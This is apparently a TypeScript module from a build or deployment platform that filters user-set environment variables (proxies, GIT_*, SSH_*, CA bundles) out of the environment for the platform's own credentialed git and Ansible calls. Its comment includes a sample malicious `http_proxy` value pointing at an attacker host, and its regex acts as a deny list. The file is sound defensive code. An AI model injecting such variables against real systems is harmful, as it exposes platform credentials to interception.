/**
 * Run and pipeline variables are the environment of the USER's commands (shell steps keep all of
 * them). The platform's own tool calls (git for git_checkout, ansible-playbook) carry the
 * platform's credentials and must go where the platform sends them: a user variable must not
 * route them through a proxy of the user's choosing (`http_proxy=http://attacker:3128` would
 * receive the checkout and its Basic credentials), point git or ssh elsewhere (GIT_*, SSH_*), or
 * make them trust another certificate authority.
 */

/** Names removed whatever their case: every `*_proxy` (http, https, all, no, ftp…), GIT_*, SSH_*, CA bundles. */
const PLATFORM_ONLY = /^(?:[A-Za-z0-9]+_proxy|git_.*|ssh_.*|ssl_cert_file|ssl_cert_dir|curl_ca_bundle)$/i;

/** The step's environment minus what only the platform may decide for its own tools. */
export function platformToolEnv(stepEnv: Record<string, string>): Record<string, string> {
  const env: Record<string, string> = {};
  for (const [name, value] of Object.entries(stepEnv)) if (!isPlatformOnlyName(name)) env[name] = value;
  return env;
}

export function isPlatformOnlyName(name: string): boolean {
  return PLATFORM_ONLY.test(name);
}
